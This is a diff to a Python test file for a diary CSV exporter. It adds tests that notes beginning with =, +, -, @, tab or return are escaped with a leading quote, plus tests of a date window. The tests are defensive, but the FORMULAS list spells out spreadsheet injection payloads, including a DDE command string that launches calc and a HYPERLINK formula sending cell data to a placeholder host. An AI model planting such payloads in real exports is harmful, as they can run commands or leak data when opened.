@@ -1,14 +1,30 @@
-"""The diary CSV: every malformed row is named with its line, and what is written reads back."""
+"""The diary CSV: every malformed row is named with its line, and what is written reads back.
+
+A note a spreadsheet would run as a formula is written as text and read back as typed.
+"""
 
 from __future__ import annotations
 
+import csv
+import io
+from collections.abc import Sequence
 from datetime import date, time
 from pathlib import Path
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from flows.codes import Finding
-from flows.diary_csv import COLUMNS, DiaryRow, parse_diary, write_diary
+from flows.diary_csv import (
+    COLUMNS,
+    DateWindow,
+    DiaryRow,
+    date_window,
+    parse_diary,
+    write_diary,
+)
+from flows.models import NOTE_MAX_CHARS
 
 DIARIES = Path(__file__).resolve().parents[1] / "data" / "diaries"
 HEADER = ",".join(COLUMNS) + "\n"
@@ -152,3 +168,143 @@ def test_written_rows_read_back_unchanged() -> None:
 def test_a_sample_diary_is_written_back_byte_for_byte() -> None:
     text = (DIARIES / "diary_015.csv").read_text(encoding="utf-8")
     assert write_diary(parse_diary(text).rows) == text
+
+
+# Notes a spreadsheet would run as formulas (issue 14): the first five are the reported ones.
+FORMULAS = (
+    '=HYPERLINK("http://x/?d="&A2,"Open")',
+    "=cmd|' /C calc'!A0",
+    "+SUM(1,1)",
+    "-2+3",
+    "@SUM(1,1)",
+)
+
+
+def note_cells(text: str) -> list[str]:
+    return [row["note"] for row in csv.DictReader(io.StringIO(text, newline=""))]
+
+
+def notes_read_back(notes: Sequence[str]) -> list[str | None]:
+    rows = [DiaryRow(entry_date=date(2026, 3, 1), back_pain=3, note=note) for note in notes]
+    parsed = parse_diary(write_diary(rows))
+    assert parsed.ok, [e.message for e in parsed.errors]
+    return [row.note for row in parsed.rows]
+
+
+def test_a_note_a_spreadsheet_would_run_is_written_as_text() -> None:
+    rows = [DiaryRow(entry_date=date(2026, 3, 1), back_pain=3, note=note) for note in FORMULAS]
+    assert note_cells(write_diary(rows)) == [
+        '\'=HYPERLINK("http://x/?d="&A2,"Open")',
+        "'=cmd|' /C calc'!A0",
+        "'+SUM(1,1)",
+        "'-2+3",
+        "'@SUM(1,1)",
+    ]
+
+
+def test_quotes_tabs_and_returns_in_front_are_neutralised_too_and_plain_notes_are_not() -> None:
+    notes = ["'=x", "''+1", "-", "\tindented", "\r=1", "a = b - c", "'quoted'", "2 - 3 walks"]
+    rows = [DiaryRow(entry_date=date(2026, 3, 1), back_pain=3, note=note) for note in notes]
+    assert note_cells(write_diary(rows)) == [
+        "''=x",
+        "'''+1",
+        "'-",
+        "'\tindented",
+        "'\r=1",
+        "a = b - c",
+        "'quoted'",
+        "2 - 3 walks",
+    ]
+
+
+def test_our_own_export_reads_back_as_the_notes_that_were_written() -> None:
+    notes = [*FORMULAS, "'=x", "''+1", "-", "\tindented", "\r=1", "'quoted'", "a\rb", "'"]
+    assert notes_read_back(notes) == notes
+
+
+def test_the_quote_in_front_of_a_formula_does_not_count_against_the_note_limit() -> None:
+    notes = ["=" * NOTE_MAX_CHARS, "-" + "x" * (NOTE_MAX_CHARS - 1)]
+    assert notes_read_back(notes) == notes
+
+
+def test_a_quoted_formula_from_a_spreadsheet_is_imported_without_its_quote() -> None:
+    parsed = parse_diary(HEADER + "2026-03-01,,3,,,'=SUM(1;1)\n2026-03-02,,3,,,'ok\n")
+    assert [row.note for row in parsed.rows] == ["=SUM(1;1)", "'ok"]
+
+
+# Notes as the bot stores them: what was typed, without its surrounding whitespace.
+STORED_NOTES = (
+    st.text(
+        st.one_of(
+            st.sampled_from("'=+-@\t\r\n\",; "),
+            st.characters(exclude_categories=["Cs"]),
+        ),
+        min_size=1,
+        max_size=60,
+    )
+    .map(str.strip)
+    .filter(bool)
+)
+
+
+@settings(max_examples=300, deadline=None)
+@given(notes=st.lists(STORED_NOTES, min_size=1, max_size=4))
+def test_any_stored_note_survives_export_and_import(notes: list[str]) -> None:
+    assert notes_read_back(notes) == notes
+    for cell in note_cells(write_diary(DiaryRow(date(2026, 3, 1), 3, note=n) for n in notes)):
+        assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r"}
+
+
+AT_LEAST_2019 = date_window(date(2026, 3, 10), 2024)
+AT_LEAST_1990 = date_window(date(2026, 3, 10), None)
+
+
+@pytest.mark.parametrize(
+    ("window", "day", "message"),
+    [
+        (AT_LEAST_2019, "2019-01-01", None),
+        (
+            AT_LEAST_2019,
+            "2018-12-31",
+            "line 2: date 2018-12-31 is too long before your operation; I can take entries from "
+            "2019-01-01 on (5 years before the year of the operation)",
+        ),
+        (AT_LEAST_1990, "1990-01-01", None),
+        (
+            AT_LEAST_1990,
+            "1989-12-31",
+            "line 2: date 1989-12-31 is too long ago; I can take entries from 1990-01-01 on, or "
+            "from 5 years before your operation once its year is set in /settings",
+        ),
+        (
+            AT_LEAST_1990,
+            "0001-01-01",
+            "line 2: date 0001-01-01 is too long ago; I can take entries from 1990-01-01 on, or "
+            "from 5 years before your operation once its year is set in /settings",
+        ),
+        (AT_LEAST_1990, "2026-03-10", None),
+        (
+            AT_LEAST_1990,
+            "2026-03-11",
+            "line 2: date 2026-03-11 is in the future; the latest date I can take is 2026-03-10",
+        ),
+        (
+            AT_LEAST_2019,
+            "9999-12-31",
+            "line 2: date 9999-12-31 is in the future; the latest date I can take is 2026-03-10",
+        ),
+    ],
+)
+def test_rows_outside_the_date_window_are_refused_with_their_line(
+    window: DateWindow, day: str, message: str | None
+) -> None:
+    parsed = parse_diary(HEADER + f"{day},23:59,3,2,,\n", window)
+    assert [error.message for error in parsed.errors] == ([message] if message else [])
+    assert [row.entry_date.isoformat() for row in parsed.rows] == ([] if message else [day])
+
+
+def test_a_surgery_year_no_onboarding_offers_still_gives_a_usable_window() -> None:
+    today = date(2026, 3, 10)
+    assert date_window(today, 1).earliest == date(2, 1, 1)
+    assert date_window(today, 99_999).earliest == date(2026, 1, 1)
+    assert date_window(today, 1980) == DateWindow(date(1975, 1, 1), today, from_surgery=True)
